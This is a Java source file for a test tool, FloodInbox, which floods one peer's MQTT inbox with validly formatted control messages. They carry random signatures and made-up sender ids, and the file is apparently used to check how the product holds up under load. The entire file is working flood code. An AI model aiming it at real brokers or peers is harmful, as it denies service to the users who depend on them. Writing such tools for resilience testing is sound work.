import java.security.SecureRandom;
import java.time.Instant;
import java.util.HexFormat;

import org.eclipse.paho.client.mqttv3.MqttClient;
import org.eclipse.paho.client.mqttv3.MqttConnectOptions;
import org.eclipse.paho.client.mqttv3.persist.MemoryPersistence;
import org.neuromesh.api.peer.PeerId;
import org.neuromesh.api.peer.SignedControlMessage;
import org.neuromesh.crypto.WireFormat;

/**
 * ATTACK TOOL for the product tests, not a product: a broker client that floods one peer's inbox with well-formed
 * messages under sender ids nobody knows (so the peer cannot check their signatures and may only hold or refuse
 * them), as fast as the broker takes them. Run as a source-file program with the product's own jars:
 *
 * <pre>java -cp api.jar:crypto.jar:paho.jar FloodInbox.java URI USER PASSWORD TOPIC_ROOT VICTIM COUNT BYTES SENDERS</pre>
 *
 * SENDERS is how many claimed sender ids the messages spread over (COUNT for one each, 1 for a single one).
 */
public class FloodInbox {

    public static void main(String[] args) throws Exception {
        String uri = args[0];
        PeerId victim = new PeerId(args[4]);
        int count = Integer.parseInt(args[5]);
        int bytes = Integer.parseInt(args[6]);
        int senders = Integer.parseInt(args[7]);
        SecureRandom random = new SecureRandom();
        PeerId[] claimed = new PeerId[senders];
        for (int i = 0; i < senders; i++) {
            byte[] id = new byte[32];
            random.nextBytes(id);
            claimed[i] = new PeerId(HexFormat.of().formatHex(id));
        }
        MqttClient client = new MqttClient(uri, "flood-" + System.nanoTime(), new MemoryPersistence());
        MqttConnectOptions options = new MqttConnectOptions();
        options.setUserName(args[1]);
        options.setPassword(args[2].toCharArray());
        options.setCleanSession(true);
        options.setMaxInflight(1000);
        client.connect(options);
        client.setTimeToWait(60_000);
        WireFormat format = new WireFormat(WireFormat.DEFAULT_MAX_MESSAGE_BYTES);
        String topic = args[3] + "/inbox/" + victim.value();
        byte[] body = new byte[bytes];
        byte[] signature = new byte[64];
        long started = System.nanoTime();
        for (int i = 0; i < count; i++) {
            random.nextBytes(signature);
            SignedControlMessage message = new SignedControlMessage("signal.error", claimed[i % senders], victim,
                    body, random.nextLong(), Instant.now(), signature);
            client.publish(topic, format.encode(message), 1, false);
        }
        double seconds = (System.nanoTime() - started) / 1e9;
        client.disconnect();
        client.close();
        System.out.printf("flooded %d messages of %d bytes from %d claimed senders in %.1f s%n", count, bytes,
                senders, seconds);
    }
}
